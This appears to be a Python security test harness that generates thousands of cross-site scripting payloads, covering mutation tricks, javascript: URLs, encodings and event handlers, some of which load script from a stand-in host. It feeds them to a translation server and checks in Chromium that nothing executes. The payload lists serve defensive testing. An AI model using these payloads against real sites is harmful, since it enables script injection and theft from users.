"""Payloads of cross-site scripting, what a server makes of them, and what its page shows of them.

The judge of HTML is Chromium: the elements and attributes that it reads in an answer must be those of the input.
The model process is replaced by one whose outputs are payloads (`STUB`), and by a real model.
"""

import html
import http.client
import json
import os
import random
import re
import shutil
import sys
import tempfile
from collections import Counter
from contextlib import contextmanager
from itertools import product
from pathlib import Path
from urllib.parse import quote, urlsplit

N_PAYLOADS = 5000
MAX_CHARACTERS = 15_000  # of a request
TAGS = (
    "img svg body input details video audio iframe object embed marquee math a div select textarea button form style"
    " link base xmp noscript template table meta isindex x"
).split()
HANDLERS = (
    "onerror onload onclick onfocus ontoggle onmouseover onanimationstart onbegin onpageshow onwheel onstart"
    " onauxclick onbeforeinput onscrollsnapchange"
).split()
CODES = ("__xss()", "alert(1)", "window['__xss']()", "import('//x.test/a')", "__xss`1`", "self[atob('X194c3M=')]()")
URLS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java&#10;script:{}",
    "&#106;avascript:{}",
    " \x01javascript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+",
    "vbscript:{}",
    "javascript&colon;{}",
    "//x.test/{}",
    "javascript://%0a{}",
)
MUTATIONS = (
    "<svg><style><img src=x onerror={0}></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={0}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<template><img src=x onerror={0}></template>",
    '<svg></p><style><a id="</style><img src=1 onerror={0}>">',
    "<math><annotation-xml encoding='text/html'><img src=x onerror={0}></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror={0}></foreignObject></svg>",
    "<svg><![CDATA[><img src=x onerror={0}>]]></svg>",
    "<svg><title><img src=x onerror={0}></title></svg>",
    "<svg><desc><b>cat</b><script>{0}</script></desc></svg>",
    "<title></title><img src=x onerror={0}></title>",
    "<textarea></textarea><img src=x onerror={0}></textarea>",
    "<style></style><img src=x onerror={0}></style>",
    "<script><!--<script></script><img src=x onerror={0}>--></script>",
    "<script>{0}</script>",
    "<SCRIPT SRC=//x.test/a.js></SCRIPT>",
    "<script/x>{0}</script >",
    "<<script>{0}//<</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<xmp><img src=x onerror={0}></xmp>",
    "<plaintext><img src=x onerror={0}>",
    "<iframe srcdoc='<img src=x onerror={0}>'></iframe>",
    "<noembed><img src=x onerror={0}></noembed>",
    "<noframes><img title='</noframes><img src=x onerror={0}>'></noframes>",
    "<!--><img src=x onerror={0}>-->",
    "<!--><img src=x onerror={0}>",
    "<!-- --!><img src=x onerror={0}> -->",
    "<?xml <img src=x onerror={0}>?>",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "</ <img src=x onerror={0}>>",
    "<b <img src=x onerror={0}>cat</b>",
    "<a href='x' title='<b>The cat</b>' onclick={0}>dog</a>",
    "<table><td>cat<img src=x onerror={0}></table>",
    "<select><option>cat<img src=x onerror={0}></select>",
    "<b><p>cat</b> dog<img src=x onerror={0}></p>",
    "<a>cat<a>dog<i onclick={0}></a>sat</i>",
    "<nobr>cat<nobr>dog<b onclick={0}>sat",
    "<code><img src=x onerror={0}></code> cat",
    "<p translate=no>cat<script>{0}</script></p> dog",
    "<svg/onload={0}",
    "<img src=x onerror={0} ",
    "<img src='x onerror={0}>cat",
    '<b title="cat onclick={0}>dog</b>',
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={0}&amp;gt;",
    "<image src=x onerror={0}>",
    "<frameset onload={0}>",
    "<ruby>cat<rt>dog<img src=x onerror={0}></ruby>",
    "<br onclick={0}/>cat",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "\u2028<img src=x onerror={0}>\u2029",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cimg src=x onerror={0}\\u003e",
    "';{0};//",
    '";{0};//',
    "</script><script>{0}</script>",
    "]]></script><script>{0}</script>",
    "--><script>{0}</script>",
    "cat\n-->\n<script>{0}</script>",
    "𝒔cript>{0}</𝒔cript>",
    "＜script＞{0}＜/script＞",
    "<ſcript>{0}</ſcript>",
    "\ufeff<script>{0}</script>",
    "<a href=x>The <b>cat</b></a><i onclick={0}> sat",
    '<math href="javascript:{0}">cat</math>',
    "<svg><a xlink:href='javascript:{0}'><text>cat</text></a></svg>",
    "<svg><animate onbegin={0} attributeName=x></svg>",
    "<svg><set attributeName=href to=javascript:{0}></svg>",
    "<svg><use href='data:image/svg+xml,{0}'/>",
)
ENCODINGS = {
    "plain": lambda s: s,
    "escaped": html.escape,
    "escaped twice": lambda s: html.escape(html.escape(s)),
    "decimal": lambda s: re.sub("[<>\"']", lambda match: f"&#{ord(match[0])};", s),
    "hexadecimal without semicolon": lambda s: re.sub("[<>]", lambda match: f"&#x{ord(match[0]):04X}", s),
    "named": lambda s: s.replace("<", "&LT;").replace(">", "&gt"),
    "mixed case": lambda s: "".join(c.upper() if i % 2 else c for i, c in enumerate(s)),
    "NUL": lambda s: s.replace("<", "<\0", 1),
    "NUL in the name": lambda s: re.sub(r"<(\w)", "<\\1\0", s),
    "slashes": lambda s: s.replace(" ", "/"),
    "tabs and form feeds": lambda s: s.replace(" ", "\t\f"),
    "line ends": lambda s: s.replace(" ", "\r\n"),
    "no end": lambda s: s.removesuffix(">"),
}
CONTEXTS = (
    "{}",
    "The {} cat sat.",
    "<p>The <b>old</b> {} sat.</p>",
    '<a href="x" title="{}">The cat</a> sat.',
    "<a title='{}'>cat</a>",
    "<img alt={}> The cat.",
    "<!-- {} --> The cat.",
    "<title>The cat {}</title>",
    "<textarea>The cat {}</textarea> sat.",
    "<script>let a = '{}'</script> The cat.",
    "<style>a{{b:'{}'}}</style> The cat.",
    "<svg><text>The cat {}</text></svg> sat.",
    "<math><mi>cat {}</mi></math> sat.",
    "<b>The <i>cat {}</b> sat</i>.",
    "<div><p>The cat. {} A dog!",
    "<noscript>The cat {}</noscript> sat.",
    "<table><tr><td>The {} cat</table>",
    "<{}>The cat sat.",
    "<b {}>The cat</b> sat.",
    "<p translate=no>The {} cat</p> sat.",
    "“The cat” {}. It sat.",
)


def payloads(n=N_PAYLOADS):
    """n distinct payloads: all forms, and of their products with encodings and contexts an equal part of each."""
    vectors = [form.format(code) for form, code in product(MUTATIONS, CODES)]
    for (tag, handler), code in zip(product(TAGS, HANDLERS), CODES * 99, strict=False):
        vectors.append(f"<{tag} src=x href=x autofocus tabindex=1 {handler}={code}>cat</{tag}>")
    for attribute, url, code in product(
        ("a href", "iframe src", "form action", "object data", "embed src"), URLS, CODES[:3]
    ):
        tag, name = attribute.split()
        vectors.append(f'<{tag} {name}="{url.format(code)}">The cat</{tag}>')
    rng = random.Random(1)
    found = dict.fromkeys(vectors)
    cells = list(product(ENCODINGS.values(), CONTEXTS))
    while len(found) < n:
        for encoded, context in cells:
            found[context.format(encoded(rng.choice(vectors)))] = None
    return list(found)[:n]


STUB = """
import os, random, socket, sys, time
sys.path.insert(0, os.getcwd())
from benchmarks.serve_xss import payloads
from glassformer.serve import messages
from glassformer.serve.channel import Channel
channel = Channel(socket.socket(fileno=int(sys.argv[-1])))
channel.receive(60)
texts = [text.replace("\\0", "") for text in payloads()]
n = 0
def some(count):
    global n
    n += count
    return [texts[i % len(texts)] for i in range(n - count, n)]
def info(name, pipeline, languages=(), features=()):
    return messages.ModelInfo(id=name, task=some(1)[0], pipeline=pipeline, languages=languages, features=features,
        labels=some(9), inputs=[], speed=1e9, embeds=False, detection=None, created=1)
channel.send(messages.Ready(failures=messages.Failures(), models=[
    info("en-de", "translation", ["en", "de"], ["align", "confidence", "prefix"]),
    info("labels", "text-classification"), info("tags", "token-classification"), info("answers", "question-answering"),
    info("text", "text-generation"), info("mask", "fill-mask"), info("lines", "text2text-generation")]))
n = 0
def translated(text, source):
    words, rng = text.split(), random.Random(text)
    n_source = max(1, len(source.split()))
    pairs = [(rng.randrange(n_source), k) for k in range(len(words)) if rng.random() < 0.8]
    return messages.Translated(text=text, others=some(1), missing=some(1), alignment=pairs,
        words=[(w, rng.random()) for w in words], confidence=0.4)
def output(model):
    if model == "labels":
        return [[{"label": t, "score": 0.5} for t in some(500)]]
    if model == "tags":
        found = zip(range(500), some(500))
        return [{"start": i, "end": i + 1, "entity_group": t, "score": 0.5} for i, t in found]
    if model == "answers":
        return {"answer": " ".join(some(100)), "start": 1, "end": 5, "score": 0.5}
    return [{"token_str": t, "score": 0.5} for t in some(500)]
def result(request):
    match request:
        case messages.Translate():
            return translated(some(1)[0], request.text)
        case messages.Continue():
            found = [translated(request.prefix + " " + t, request.text) for t in some(8)]
            return messages.Translated(text=found[0].text, continuations=found)
        case messages.Complete():
            usage = messages.Usage(prompt_tokens=1, completion_tokens=1)
            return messages.Completed(text="\\n".join(some(500)), finish_reason="stop", usage=usage)
    return messages.Called(output=output(request.model))
told = 0
while True:
    for command in channel.receive(0.5):
        if isinstance(command, messages.Begin):
            channel.send(messages.Done(job_id=command.job_id, result=result(command.request)))
    if time.monotonic() - told > 1:
        channel.send(messages.Alive())
        told = time.monotonic()
"""

SERVER = """
import sys, types
from pathlib import Path
from glassformer.serve import server, settings, supervisor
supervisor.sys = types.SimpleNamespace(executable=sys.argv[1])
server.serve(settings.Settings({"en-de": Path()}, port=0, deadline_s=600.0, corrections=Path(sys.argv[2])))
"""


@contextmanager
def stub_command():
    """The command of a server whose model outputs are payloads."""
    with tempfile.TemporaryDirectory() as folder:
        script = Path(folder) / "worker"
        script.write_text(f"#!{sys.executable}\n{STUB}")
        script.chmod(0o700)
        yield [sys.executable, "-c", SERVER, str(script), folder]


class Client:
    """Requests on one connection. Counts statuses and answers that a browser would show as a page."""

    def __init__(self, port):
        self.connection = http.client.HTTPConnection("127.0.0.1", port, timeout=600)
        self.statuses, self.pages = Counter(), 0

    def request(self, method, path, body=None, kind="application/json"):
        self.connection.request(method, path, body, {"Content-Type": kind})
        response = self.connection.getresponse()
        data = response.read()
        self.statuses[response.status] += 1
        shown = response.headers["Content-Type"] == "application/json" or "attachment" in (
            response.headers["Content-Disposition"] or ""
        )
        self.pages += not (shown and response.headers["X-Content-Type-Options"] == "nosniff")
        return data if response.status == 200 else None

    def translate(self, q, **fields):
        """The translations of texts; None if the server refuses them."""
        body = {"q": q, "source": "en", "target": "de", "beam": 1, **fields}
        answer = self.request("POST", "/translate", json.dumps(body))
        return answer and json.loads(answer)["translatedText"]

    def file(self, name, data):
        """The translation of a file; None if the server refuses it."""
        name = name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
        fields = (("source", "en"), ("target", "de"))
        parts = [f'--x\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields]
        parts.append(f'--x\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n')
        body = "".join(parts).encode() + data.encode() + b"\r\n--x--\r\n"
        answer = self.request("POST", "/translate_file", body, "multipart/form-data; boundary=x")
        return answer and self.request("GET", urlsplit(json.loads(answer)["translatedFileUrl"]).path)


def groups(texts):
    """The texts in lists for one request; those with NUL, which are refused, alone."""
    found, n = [], 0
    for text in sorted(texts, key=lambda text: "\0" in text):
        if not found or n + len(text) > MAX_CHARACTERS or "\0" in text:
            found.append([])
            n = 0
        found[-1].append(text)
        n += len(text)
    return found


ELEMENTS = """pairs => {
  const list = (root, found = []) => {
    for (const node of root.querySelectorAll('*')) {
      const attributes = [...node.attributes].map((a) => `${a.name}=${a.value}`).sort();
      found.push(JSON.stringify([node.namespaceURI, node.localName, ...attributes]));
      if (node.content instanceof DocumentFragment) list(node.content, found);
    }
    return found;
  };
  const withScripts = (text) => {
    const node = document.createElement('div');
    node.innerHTML = text;  // the policy of the page lets nothing run or load
    return node;
  };
  const readings = [(text) => new DOMParser().parseFromString(text, 'text/html'), withScripts];
  return pairs.map((pair) => readings.map((read) => {
    // svg: Chromium has a second parser for simple texts, which decodes &gt without a semicolon in another way
    const [a, b] = pair.map((text) => list(read(`${text}<svg></svg>`)));
    return a.join() === b.join() ? 'same' : a.sort().join() === b.sort().join() ? 'moved' : 'changed';
  }));
}"""


class Judge:
    """Counts answers in HTML by whether the elements and attributes are those of the input."""

    def __init__(self, page):
        self.page, self.counts, self.examples = page, Counter(), []

    def compare(self, pairs):
        for pair, found in zip(pairs, self.page.evaluate(ELEMENTS, pairs), strict=True):
            kind = next((kind for kind in ("changed", "moved") if kind in found), "same")
            self.counts[kind] += 1
            if kind == "changed":
                self.examples.append(pair)


def check_apis(client, judge, texts, *, files):
    """Send payloads to the APIs, as text, as HTML, as files and as their names."""
    for some in groups(texts):
        client.translate(some)
        if found := client.translate(some, format="html"):
            judge.compare(list(zip(some, found, strict=True)))
    if not files:
        return
    for text in texts:
        client.request("GET", f"/translate?langpair=en|de&q={quote(text)}")
        if found := client.file(f"{text}.html", text):
            judge.compare([(text, found.decode())])
    for some in groups(texts):
        lines = [" ".join(text.split()) for text in some]
        if found := client.file("a.txt", "\n".join(lines)):
            assert found.decode().count("\n") == len(lines) - 1
        cues = [f"{i}\n00:00:01,000 --> 00:00:02,500\n{line}\n" for i, line in enumerate(lines)]
        if found := client.file("a.srt", "\n".join(cues)):
            assert len(re.findall(r"(?m)^\d+\n\d\d:\d\d:\d\d,\d+ --> \d\d:\d\d:\d\d,\d+\n", found.decode())) == len(
                cues
            )


OWN = (
    "html head meta title link style body script noscript header nav main section h1 h2 span button div textarea select"
    " option details summary label input progress ul li a small p form table tbody tr th td b mark dialog kbd br"
).split()
FOREIGN = """own => [...document.querySelectorAll('*')].filter((node) =>
  !own.includes(node.localName) || node.namespaceURI !== 'http://www.w3.org/1999/xhtml'
  || [...node.attributes].some((a) => a.name.startsWith('on') || a.name === 'srcdoc')
  || (node.localName === 'a' && !/^\\/download_file\\/[\\w.-]+$/.test(node.getAttribute('href')))
  || (node.localName === 'script' && node !== document.querySelector('script'))
  || (node.localName === 'li' && !node.closest('ul'))).map((node) => node.outerHTML.slice(0, 200))"""
ANSWERED = """[...document.querySelectorAll('.result')].some((node) => node.textContent)
  && !document.querySelector('.form:not([hidden]) .problem').textContent"""
DROP = """names => {
  for (const name of names) {
    const data = new DataTransfer();
    data.items.add(new File(["The cat.\\n"], name + ".txt", { type: "text/plain" }));
    document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
  }
}"""


def until(page, expression, argument=None, timeout_s=60):
    for _ in range(timeout_s * 20):
        if page.evaluate(expression, argument):
            return
        page.wait_for_timeout(50)
    raise AssertionError(f"not true: {expression}")


def check_page(page, texts):
    """Show payloads on the page of a server whose outputs are payloads. Returns elements that are not the page's."""
    texts = [text.replace("\0", "") for text in texts]
    foreign = []
    look = lambda: foreign.extend(page.evaluate(FOREIGN, OWN))
    page.wait_for_selector(".translator")
    for some in groups(texts):  # typed, and the outputs for them
        page.fill(".mirror textarea", "\n".join(" ".join(text.split()) for text in some))
        until(page, "document.querySelector('.output [data-part]') && !document.querySelector('.waiting')")
        look()
        page.evaluate("document.querySelectorAll('.word')[9].click()")  # alternatives
        page.wait_for_selector(".menu li")
        look()
        page.keyboard.press("Enter")
        page.get_by_role("button", name="Correct", exact=True).click()
        page.fill(".edit", some[0])
        look()
        page.keyboard.press("Enter")
    page.fill(".mirror textarea", "The cat.")
    page.evaluate("document.querySelectorAll('.more details').forEach((node) => { node.open = true; })")
    for some in groups(texts):
        page.fill("#glossary", "\n".join(f"{' '.join(text.split())[:99]} = {' '.join(text.split())}" for text in some))
        look()
    page.fill(".mirror textarea", "")
    for i in range(0, len(texts), 50):
        page.evaluate("document.querySelector('.files').replaceChildren()")
        page.evaluate(DROP, texts[i : i + 50])
        until(page, "document.querySelector('.more progress').hidden")
        look()
    for name in ("labels", "tags", "answers", "text", "mask", "lines"):
        page.get_by_role("button", name=name, exact=True).click()
        for i in range(0, len(texts), 500):
            for field in page.locator(".form:visible textarea, .form:visible input:not([type=number])").all():
                field.fill("\n".join(texts[i : i + 500])[: MAX_CHARACTERS // 2])
            page.evaluate("document.querySelectorAll('.result').forEach((node) => node.replaceChildren())")
            page.locator(".form:visible .primary").click()
            until(page, ANSWERED)
            page.wait_for_timeout(100)
            look()
    return foreign


def check_inspection(page, client, texts, n):
    """Open inspections of payloads."""
    for text in sorted(texts, key=len)[:: len(texts) // n]:
        answer = client.request("POST", "/models/tiny/inspect", json.dumps({"inputs": text[:2000]}))
        if answer:
            page.goto(f"http://127.0.0.1:{client.connection.port}{json.loads(answer)['url']}")
            page.wait_for_selector("main h1")


def is_problem(message):
    """Whether a message of the console is an error other than the status of an answer, or that of a request that the
    browser itself did not send, because there were too many at once."""
    usual = ("the server responded with a status of 4", "net::ERR_INSUFFICIENT_RESOURCES")
    return message.type == "error" and not any(text in message.text for text in usual)


@contextmanager
def chromium():
    """A function that opens a tab, and what it executed or asked other servers for that it must not."""
    from playwright.sync_api import sync_playwright

    path = os.environ.get("CHROMIUM") or shutil.which("chromium")
    executed = []
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=path, args=["--no-sandbox", "--disable-gpu"])

        def tab(url, watched=True):
            page = browser.new_page()
            allowed = (f"http://{urlsplit(url).netloc}/", "data:", "blob:")
            page.goto(url)
            if not watched:
                return page
            page.expose_function("__xss", lambda *_: executed.append("called"))
            page.on("console", lambda message: is_problem(message) and executed.append(message.text))
            page.on("pageerror", lambda error: executed.append(str(error)))
            page.on("dialog", lambda dialog: (executed.append(dialog.message), dialog.dismiss()))
            page.on("response", lambda response: response.status >= 500 and executed.append(f"{response.status}"))
            page.on("request", lambda request: request.url.startswith(allowed) or executed.append(request.url))
            page.reload()
            return page

        yield tab, executed
        browser.close()
